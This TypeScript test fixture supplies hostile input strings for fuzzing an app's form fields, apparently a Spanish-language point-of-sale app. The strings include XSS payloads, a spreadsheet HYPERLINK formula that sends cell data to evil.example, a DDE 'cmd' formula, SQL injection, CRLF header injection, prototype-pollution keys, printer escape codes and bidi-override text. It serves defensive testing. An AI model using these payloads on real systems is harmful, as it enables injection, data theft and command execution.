/** Hostile texts: scripts, formulas, control characters and look-alike letters. */

/** The property of `window` that a hostile script sets when it runs. */
export const SCRIPT_RAN = 'ran'

const SCRIPTS = [
  `<script>window.${SCRIPT_RAN}=1</script>`,
  `"><img src=x onerror=window.${SCRIPT_RAN}=1>`,
  `'"><svg/onload=window.${SCRIPT_RAN}=1>`,
  `</title></textarea></style></script><script>window.${SCRIPT_RAN}=1</script>`,
  `javascript:window.${SCRIPT_RAN}=1//`,
  `<a href="javascript:window.${SCRIPT_RAN}=1">Ver</a>`,
  `<iframe srcdoc="<script>parent.${SCRIPT_RAN}=1</script>"></iframe>`,
  `<img src="//evil.example/a.png"><link rel=stylesheet href=//evil.example/a.css>`,
  `<style>*{display:none}</style><base href="//evil.example/">`,
  `data:text/html,<script>window.${SCRIPT_RAN}=1</script>`,
  `%3Cscript%3Ewindow.${SCRIPT_RAN}=1%3C/script%3E &lt;script&gt; &#x3c;script&#x3e;`,
  `\${window.${SCRIPT_RAN}=1}{{constructor.constructor('window.${SCRIPT_RAN}=1')()}}<%= 7*7 %>#{7*7}`,
]

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
  '+506 2222-4455',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\u200b=1+1',
]

const WORDS = [
  '__proto__',
  'constructor',
  'toString',
  "'; DROP TABLE users; --",
  '100 % _ \\ "fin"',
]

const LINES = [
  'Uno\r\nSet-Cookie: robado=1\r\n\r\n{"level":60}',
  'Dos\u2028tres\u2029cuatro\u0085cinco',
  // Printer commands: open the drawer, cut, reset, and request the status.
  'Caja\u001bp0\u0001 corte\u001dVA\u0003 nuevo\u001b@ estado\u0010\u0004\u0001',
]

const LETTERS = [
  `Supercalifragilisticoespialidoso${'largo'.repeat(40)}`,
  `\u202eodnauqse led otalp\u202d\u2066`,
  `Ca\u200bfé\u200d con\ufeff \u2060leche`,
  'Z̸̡̛̝͎̈́a̷̢͔̓́l̴̰͊g̵̨̋̈́o̶͖͑'.repeat(4),
  '👩‍👩‍👧‍👦🏴‍☠️🇨🇷'.repeat(6),
  'مطعم السلام 寿司 ไทย',
]

export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...FORMULAS,
  ...WORDS,
  ...LINES,
  ...LETTERS,
]

export type HostileWriter = ReturnType<typeof createHostileWriter>

/** Assigns one text after another to fields, and records the values. */
export function createHostileWriter() {
  const written = new Map<string, string>()
  let at = 0
  const text = (field: string): string => {
    const value = HOSTILE_TEXTS[at % HOSTILE_TEXTS.length] ?? ''
    at += 1
    written.set(field, value)
    return value
  }
  const some = <Name extends string>(call: string, ...names: readonly Name[]) =>
    Object.fromEntries(names.map((name) => [name, text(`${call}.${name}`)])) as Record<Name, string>
  /** Returns fields with the first text, which is short. */
  const first = <Name extends string>(call: string, ...names: readonly Name[]) => {
    const [value = ''] = HOSTILE_TEXTS
    for (const name of names) written.set(`${call}.${name}`, value)
    return Object.fromEntries(names.map((name) => [name, value])) as Record<Name, string>
  }
  const named = (call: string) => ({
    ...some(call, 'name', 'description', 'address'),
    translations: (['en', 'pt', 'fr'] as const).map((language_code) => ({
      language_code,
      name: text(`${call}.translations[].name`),
      description: text(`${call}.translations[].description`),
      address: text(`${call}.translations[].address`),
    })),
  })
  return { written, text, some, first, named }
}
